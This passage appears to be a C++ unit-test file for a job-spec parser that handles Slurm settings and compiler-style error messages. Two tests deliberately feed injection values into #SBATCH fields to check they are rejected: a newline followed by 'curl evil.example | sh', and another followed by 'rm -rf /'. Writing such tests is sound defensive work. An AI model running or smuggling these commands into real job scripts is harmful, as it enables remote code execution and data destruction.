// --- slurm: ---

constexpr const char* kSlurmHead = R"(name: a
launcher: command
command: [x]
)";

TEST(JobSpec, ParsesSlurmSectionAndComputesWorldSize) {
  const SpecParseResult result = parse(std::string(kSlurmHead) + R"(slurm:
  cluster: hpc
  nodes: 3
  gpus_per_node: 4
  partition: gpu
  account: proj-42
  qos: high
  time: 1-12:00:00
  constraint: a100&ib
  sbatch_args: [--exclusive, --mem=64G]
)");
  ASSERT_TRUE(result.ok()) << formatDiagnostics(result.errors);
  const JobSpec& spec = *result.spec;
  ASSERT_TRUE(spec.slurm.has_value());
  EXPECT_EQ(spec.slurm->line, 4);
  EXPECT_EQ(spec.slurm->cluster, "hpc");
  EXPECT_EQ(spec.slurm->nodes, 3);
  EXPECT_EQ(spec.slurm->ranks_per_node, 0);
  EXPECT_EQ(spec.slurm->gpus_per_node, 4);
  EXPECT_EQ(spec.slurm->partition, "gpu");
  EXPECT_EQ(spec.slurm->account, "proj-42");
  EXPECT_EQ(spec.slurm->qos, "high");
  EXPECT_EQ(spec.slurm->time, "1-12:00:00");
  EXPECT_EQ(spec.slurm->constraint, "a100&ib");
  EXPECT_EQ(spec.slurm->sbatch_args, (std::vector<std::string>{"--exclusive", "--mem=64G"}));
  EXPECT_EQ(spec.world_size, 12);  // 3 nodes * 4 GPUs, one rank each
  EXPECT_EQ(spec.world_size_line, 0);
  EXPECT_TRUE(spec.placement.empty());
}

TEST(JobSpec, SlurmRanksPerNodeWinsOverGpusAndDefaultsToOne) {
  auto worldSize = [](const std::string& slurm) {
    const SpecParseResult result = parse(std::string(kSlurmHead) + "slurm: " + slurm + "\n");
    EXPECT_TRUE(result.ok()) << formatDiagnostics(result.errors);
    return result.ok() ? result.spec->world_size : -1;
  };
  EXPECT_EQ(worldSize("{nodes: 2, ranks_per_node: 3, gpus_per_node: 8}"), 6);
  EXPECT_EQ(worldSize("{nodes: 5}"), 5);
  EXPECT_EQ(worldSize("{nodes: 100000, ranks_per_node: 1024}"), 102400000);
}

TEST(JobSpec, SpecWithoutSlurmHasNoSlurmRequest) {
  const SpecParseResult result = parse(std::string(kSlurmHead) + "world_size: 2\n");
  ASSERT_TRUE(result.ok()) << formatDiagnostics(result.errors);
  EXPECT_FALSE(result.spec->slurm.has_value());
}

TEST(JobSpec, RejectsSlurmWithPlacement) {
  const std::string text = std::string(kSlurmHead) + R"(placement: [{agent: n1, ranks: 1}]
slurm: {nodes: 1}
)";
  EXPECT_TRUE(hasSingleError(text, 4, "placement", "both slurm and placement are given"));
  EXPECT_NE(parse(text).errors[0].hint.find("Slurm picks the nodes"), std::string::npos);
  EXPECT_NE(parse(text).errors[0].hint.find("nodes * ranks_per_node"), std::string::npos);
}

TEST(JobSpec, RejectsSlurmWithWorldSize) {
  EXPECT_TRUE(hasSingleError(std::string(kSlurmHead) + R"(slurm: {nodes: 1}
world_size: 4
)",
                             5, "world_size", "both slurm and world_size are given"));
}

TEST(JobSpec, RejectsSlurmWithoutNodes) {
  EXPECT_TRUE(hasSingleError(std::string(kSlurmHead) + R"(slurm:
  partition: gpu
)",
                             4, "slurm.nodes", "missing"));
}

TEST(JobSpec, SlurmWithErrorsDoesNotAlsoAskForPlacement) {
  const SpecParseResult result = parse(std::string(kSlurmHead) + "slurm: [1, 2]\n");
  ASSERT_EQ(result.errors.size(), 1u) << formatDiagnostics(result.errors);
  EXPECT_EQ(result.errors[0].field, "slurm");
  EXPECT_EQ(result.errors[0].line, 4);
  EXPECT_NE(result.errors[0].message.find("expected a mapping"), std::string::npos);
}

TEST(JobSpec, RejectsSlurmNodesOutOfRangeOrNotAPlainInteger) {
  const std::string head = std::string(kSlurmHead) + "slurm:\n  nodes: ";
  EXPECT_TRUE(hasSingleError(head + "0\n", 5, "slurm.nodes", "from 1 to 100000, got 0"));
  EXPECT_TRUE(hasSingleError(head + "100001\n", 5, "slurm.nodes", "got 100001"));
  EXPECT_TRUE(hasSingleError(head + "\"4\"\n", 5, "slurm.nodes", "the quoted string '4'"));
  EXPECT_TRUE(hasSingleError(head + "2.5\n", 5, "slurm.nodes", "'2.5' (not a whole number)"));
  EXPECT_TRUE(hasSingleError(head + "true\n", 5, "slurm.nodes", "'true' (a boolean)"));
  EXPECT_TRUE(hasSingleError(head + "[1]\n", 5, "slurm.nodes", "got a list"));
  EXPECT_TRUE(hasSingleError(head + "99999999999999999999999\n", 5, "slurm.nodes", "out of range"));
}

TEST(JobSpec, RejectsSlurmRanksAndGpusPerNodeOutOfRange) {
  const std::string head = std::string(kSlurmHead) + "slurm:\n  nodes: 1\n";
  EXPECT_TRUE(hasSingleError(head + "  ranks_per_node: 0\n", 6, "slurm.ranks_per_node",
                             "from 1 to 1024, got 0"));
  EXPECT_TRUE(
      hasSingleError(head + "  ranks_per_node: 1025\n", 6, "slurm.ranks_per_node", "got 1025"));
  EXPECT_TRUE(hasSingleError(head + "  gpus_per_node: -1\n", 6, "slurm.gpus_per_node",
                             "from 0 to 1024, got -1"));
  EXPECT_TRUE(
      hasSingleError(head + "  gpus_per_node: 1025\n", 6, "slurm.gpus_per_node", "got 1025"));
  const SpecParseResult zero_gpus = parse(head + "  gpus_per_node: 0\n");
  ASSERT_TRUE(zero_gpus.ok()) << formatDiagnostics(zero_gpus.errors);
  EXPECT_EQ(zero_gpus.spec->world_size, 1);
}

// Security: partition and the like become `#SBATCH --partition=...` lines of a shell script; a
// line break would put the rest of the value on a line of its own, which the shell runs.
TEST(JobSpec, RejectsLineBreakInSlurmPartition) {
  const std::string text = std::string(kSlurmHead) + R"(slurm:
  nodes: 1
  partition: "gpu\ncurl evil.example | sh"
)";
  EXPECT_TRUE(hasSingleError(text, 6, "slurm.partition", "control character"));
  // The diagnostic stays on one line.
  EXPECT_NE(parse(text).errors[0].message.find("'gpu\\ncurl"), std::string::npos);
}

TEST(JobSpec, RejectsSpacesAndEmptyValuesInSlurmNames) {
  const std::string head = std::string(kSlurmHead) + "slurm:\n  nodes: 1\n";
  EXPECT_TRUE(hasSingleError(head + "  account: \"a b\"\n", 6, "slurm.account", "space"));
  EXPECT_TRUE(hasSingleError(head + "  qos: \"\"\n", 6, "slurm.qos", "got ''"));
  EXPECT_TRUE(hasSingleError(head + "  constraint:\n", 6, "slurm.constraint", "got nothing"));
  EXPECT_TRUE(hasSingleError(head + "  partition: \"gpu\\tx\"\n", 6, "slurm.partition",
                             "control character"));
  EXPECT_TRUE(hasSingleError(head + "  cluster: \"\"\n", 6, "slurm.cluster", "got ''"));
  EXPECT_TRUE(
      hasSingleError(head + "  cluster: \"a\\nb\"\n", 6, "slurm.cluster", "control characters"));
}

TEST(JobSpec, AcceptsEverySlurmTimeForm) {
  for (const char* time : {"90", "90:30", "4:00:00", "2-12", "2-12:30", "2-12:30:15", "UNLIMITED",
                           "infinite", "\"4:00:00\""}) {
    const SpecParseResult result =
        parse(std::string(kSlurmHead) + "slurm: {nodes: 1, time: " + time + "}\n");
    EXPECT_TRUE(result.ok()) << time << ": " << formatDiagnostics(result.errors);
  }
}

TEST(JobSpec, RejectsBadSlurmTime) {
  for (const char* time : {"4h", "1:2:3:4", "1-2-3", "-5", ":30", "1-", "1:", "1.5", "soon"}) {
    const std::string text =
        std::string(kSlurmHead) + "slurm:\n  nodes: 1\n  time: \"" + time + "\"\n";
    EXPECT_TRUE(hasSingleError(text, 6, "slurm.time", "expected a Slurm time limit")) << time;
  }
  const SpecParseResult result =
      parse(std::string(kSlurmHead) + "slurm:\n  nodes: 1\n  time: 4h\n");
  ASSERT_EQ(result.errors.size(), 1u);
  EXPECT_NE(result.errors[0].hint.find("HOURS:MINUTES:SECONDS"), std::string::npos);
}

TEST(JobSpec, RejectsBadSbatchArgsNamingTheItem) {
  const std::string head = std::string(kSlurmHead) + "slurm:\n  nodes: 1\n  sbatch_args:\n";
  EXPECT_TRUE(hasSingleError(head + "    - --exclusive\n    - mem=64G\n", 8, "slurm.sbatch_args[1]",
                             "starting with '-', got 'mem=64G'"));
  EXPECT_TRUE(hasSingleError(head + "    - \"--comment=a\\nrm -rf /\"\n", 7, "slurm.sbatch_args[0]",
                             "control character"));
  EXPECT_TRUE(hasSingleError(head + "    - [--a]\n", 7, "slurm.sbatch_args[0]", "got a list"));
  EXPECT_TRUE(hasSingleError(std::string(kSlurmHead) + "slurm:\n  nodes: 1\n"
                                                       "  sbatch_args: --exclusive\n",
                             6, "slurm.sbatch_args", "expected a list of sbatch options"));
}

TEST(JobSpec, RejectsUnknownSlurmKeyWithHint) {
  const std::string text = std::string(kSlurmHead) + R"(slurm:
  nodes: 1
  partiton: gpu
)";
  EXPECT_TRUE(hasSingleError(text, 6, "slurm.partiton", "unknown key 'partiton'"));
  EXPECT_EQ(parse(text).errors[0].hint, "did you mean 'partition'?");
  const std::string cluster_typo = std::string(kSlurmHead) + "slurm: {nodes: 1, clustr: hpc}\n";
  EXPECT_TRUE(hasSingleError(cluster_typo, 4, "slurm.clustr", "unknown key"));
  EXPECT_EQ(parse(cluster_typo).errors[0].hint, "did you mean 'cluster'?");
}

TEST(JobSpec, RejectsDuplicateSlurmKeys) {
  EXPECT_TRUE(hasSingleError(std::string(kSlurmHead) + "slurm:\n  nodes: 1\n  nodes: 2\n", 6,
                             "slurm.nodes", "duplicate key"));
  EXPECT_TRUE(hasSingleError(std::string(kSlurmHead) + "slurm:\n  nodes: 1\n  cluster: a\n"
                                                       "  cluster: b\n",
                             7, "slurm.cluster", "duplicate key"));
}

TEST(JobSpec, TopLevelSlurmFieldSuggestsTheSlurmSection) {
  const std::string text = std::string(kSlurmHead) + "world_size: 1\npartition: gpu\n";
  EXPECT_TRUE(hasSingleError(text, 5, "partition", "unknown key"));
  EXPECT_EQ(parse(text).errors[0].hint, "did you mean 'slurm'?");
}

TEST(JobSpec, ReportsEverySlurmErrorInFileOrder) {
  const SpecParseResult result = parse(std::string(kSlurmHead) + R"(slurm:
  time: forever
  nodes: 0
  qos: "a b"
)");
  ASSERT_EQ(result.errors.size(), 3u) << formatDiagnostics(result.errors);
  EXPECT_EQ(result.errors[0].field, "slurm.time");
  EXPECT_EQ(result.errors[0].line, 5);
  EXPECT_EQ(result.errors[0].column, 9);
  EXPECT_EQ(result.errors[1].field, "slurm.nodes");
  EXPECT_EQ(result.errors[1].line, 6);
  EXPECT_EQ(result.errors[2].field, "slurm.qos");
  EXPECT_EQ(result.errors[2].line, 7);
}

// --- diagnostics ---

TEST(SpecDiagnostic, ToStringLooksLikeACompilerMessage) {
  SpecDiagnostic d;
  d.file = "job.yaml";
  d.line = 12;
  d.column = 3;
  d.field = "placement[1].ranks";
  d.message = "expected a positive integer, got 'abc'";
  d.hint = "use a whole number";
  EXPECT_EQ(d.toString(),
            "job.yaml:12:3: error: placement[1].ranks: expected a positive integer, got 'abc' "
            "(hint: use a whole number)");
  d.column = 0;
  d.hint.clear();
  EXPECT_EQ(d.toString(),
            "job.yaml:12: error: placement[1].ranks: expected a positive integer, got 'abc'");
  d.line = 0;
  d.field.clear();
  EXPECT_EQ(d.toString(), "job.yaml: error: expected a positive integer, got 'abc'");
}

TEST(SpecDiagnostic, FormatDiagnosticsWritesOnePerLine) {
  SpecDiagnostic a;
  a.file = "x.yaml";
  a.line = 1;
  a.message = "first";
  SpecDiagnostic b = a;
  b.line = 2;
  b.message = "second";
  EXPECT_EQ(formatDiagnostics({a, b}), "x.yaml:1: error: first\nx.yaml:2: error: second\n");
  EXPECT_EQ(formatDiagnostics({}), "");
}

TEST(SpecDiagnostic, ReportsColumnOfTheOffendingValue) {
  const SpecParseResult result =
      parse("name: a\nlauncher: command\ncommand: [x]\nworld_size: -3\n");
  ASSERT_EQ(result.errors.size(), 1u);
  EXPECT_EQ(result.errors[0].column, 13);
  EXPECT_NE(result.errors[0].toString().find("job.yaml:4:13: error: world_size:"),
            std::string::npos);
}

// --- helpers ---

TEST(JobSpecNames, LauncherAndBackendNamesRoundTrip) {
  for (Launcher launcher : {Launcher::kNative, Launcher::kTorchrun, Launcher::kCommand,
                            Launcher::kTensorflow, Launcher::kDeepspeed}) {
    EXPECT_EQ(parseLauncher(launcherName(launcher)), launcher);
  }
  for (Backend backend : {Backend::kAuto, Backend::kNccl, Backend::kGloo}) {
    EXPECT_EQ(parseBackend(backendName(backend)), backend);
  }
  EXPECT_STREQ(launcherName(Launcher::kTorchrun), "torchrun");
  EXPECT_STREQ(backendName(Backend::kNccl), "nccl");
  EXPECT_FALSE(parseLauncher("Torchrun").has_value());
  EXPECT_FALSE(parseBackend("").has_value());
}

TEST(JobSpecNames, ReservedEnvNames) {
  for (const char* name :
       {"RANK", "LOCAL_RANK", "WORLD_SIZE", "LOCAL_WORLD_SIZE", "GROUP_RANK", "GROUP_WORLD_SIZE",
        "ROLE_RANK", "ROLE_NAME", "ROLE_WORLD_SIZE", "MASTER_ADDR", "MASTER_PORT",
        "TORCHELASTIC_RESTART_COUNT", "RINGMASTER_JOB_ID"}) {
    EXPECT_TRUE(isReservedEnvName(name)) << name;
  }
  for (const char* name : {"RANKS", "MY_RANK", "NCCL_DEBUG", "PATH", "RINGMASTER"}) {
    EXPECT_FALSE(isReservedEnvName(name)) << name;
  }
}

TEST(SlurmRequest, WithDefaultsFillsUnsetFieldsAndAppendsSbatchArgs) {
  slurm::SlurmRequest defaults;
  defaults.nodes = 8;
  defaults.gpus_per_node = 4;
  defaults.partition = "gpu";
  defaults.time = "4:00:00";
  defaults.sbatch_args = {"--exclusive"};
  defaults.line = 20;
  slurm::SlurmRequest request;
  request.cluster = "hpc";
  request.nodes = 2;
  request.partition = "debug";
  request.sbatch_args = {"--mem=1G"};
  request.line = 3;
  const slurm::SlurmRequest merged = slurm::withDefaults(request, defaults);
  EXPECT_EQ(merged.cluster, "hpc");
  EXPECT_EQ(merged.nodes, 2);
  EXPECT_EQ(merged.gpus_per_node, 4);
  EXPECT_EQ(merged.ranks_per_node, 0);
  EXPECT_EQ(merged.partition, "debug");
  EXPECT_EQ(merged.time, "4:00:00");
  EXPECT_EQ(merged.account, "");
  EXPECT_EQ(merged.sbatch_args, (std::vector<std::string>{"--exclusive", "--mem=1G"}));
  EXPECT_EQ(merged.line, 3);
  EXPECT_EQ(slurm::ranksPerNode(merged), 4);
  request.ranks_per_node = 2;
  EXPECT_EQ(slurm::ranksPerNode(slurm::withDefaults(request, defaults)), 2);
  EXPECT_EQ(slurm::ranksPerNode(slurm::SlurmRequest{}), 1);
}

TEST(SlurmRequest, TimeLimitForms) {
  EXPECT_TRUE(slurm::isSlurmTimeLimit("0"));
  EXPECT_TRUE(slurm::isSlurmTimeLimit("Unlimited"));
  EXPECT_TRUE(slurm::isSlurmTimeLimit("7-0"));
  EXPECT_FALSE(slurm::isSlurmTimeLimit(""));
  EXPECT_FALSE(slurm::isSlurmTimeLimit("1-2:3:4:5"));
  EXPECT_FALSE(slurm::isSlurmTimeLimit(" 90"));
  EXPECT_FALSE(slurm::isSlurmTimeLimit("1--2"));
}

TEST(JobSpecNames, ClosestMatchFindsTyposButNotUnrelatedWords) {
  const std::vector<std::string> keys = {"name", "launcher", "world_size", "placement"};
  EXPECT_EQ(closestMatch("worldsize", keys), "world_size");
  EXPECT_EQ(closestMatch("placment", keys), "placement");
  EXPECT_EQ(closestMatch("Launcher", keys), "launcher");
  EXPECT_EQ(closestMatch("launch", keys), "launcher");
  EXPECT_EQ(closestMatch("banana", keys), "");
  EXPECT_EQ(closestMatch("", keys), "");
  EXPECT_EQ(closestMatch("name", {}), "");
}

}  // namespace
}  // namespace ringmaster::job
